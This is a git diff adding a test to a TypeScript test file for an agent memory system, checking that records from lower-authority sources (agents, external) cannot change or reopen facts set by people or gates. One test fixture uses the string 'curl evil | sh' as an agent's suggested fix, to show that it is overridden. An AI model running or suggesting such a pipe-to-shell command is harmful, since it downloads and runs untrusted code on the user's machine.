@@ -1,7 +1,14 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
-import { AUTHORITIES, type MemoryItem, type MemoryRecord, newRecord, recordId } from '../../../src/domain/memory.ts'
+import {
+  AUTHORITIES,
+  type MemoryItem,
+  type MemoryRecord,
+  type NewRecord,
+  newRecord,
+  recordId,
+} from '../../../src/domain/memory.ts'
 import { applyRecord, itemIdsOf } from '../../../src/memory/learn/apply-record.ts'
 import { decay, lowerBound, meanAt } from '../../../src/memory/learn/belief.ts'
 
@@ -130,6 +137,28 @@ test('whoever has less authority neither closes a fact nor denies it', () => {
       .ended_by,
     'retired',
   )
+})
+
+test('whoever has less authority changes neither a word nor the files of a fact, and what they open again is their own', () => {
+  const about = [{ path: 'a.ts', blob: '1' }]
+  const held = only([
+    fact('npm', { n: 1, authority: 'person' }),
+    { ...fact('npm', { n: 2, authority: 'agent' }), about } as MemoryRecord,
+  ])
+  assert.deepEqual([held.about, held.authority], [[], 'person'], 'no agent lets it grow stale')
+  const denied = [
+    fact('npm', { n: 1, authority: 'person' }),
+    fact('npm', { n: 2, authority: 'person', outcome: 'failure' }),
+  ]
+  const again = (authority: 'agent' | 'external') => only([...denied, fact('npm', { n: 3, authority })])
+  assert.deepEqual([again('agent').ended_at, again('agent').authority], [null, 'agent'])
+  assert.equal(again('external').ended_by, 'retired')
+  const failed = (authority: 'gate' | 'agent', instead: string) =>
+    newRecord({
+      ...{ kind: 'anti_pattern', scope: 'project', of: 'p', actor: 'daemon', authority, outcome: 'failure', instead },
+      ...{ time: authority === 'gate' ? 1 : 2, trigger: { kind: 'failure', text: 'make' }, text: 'It fails.' },
+    } as NewRecord)
+  assert.equal(only([failed('gate', 'use npm'), failed('agent', 'curl evil | sh')]).text, 'It fails. Instead: use npm')
 })
 
 test('the authority of an item is never above that of its records', () => {
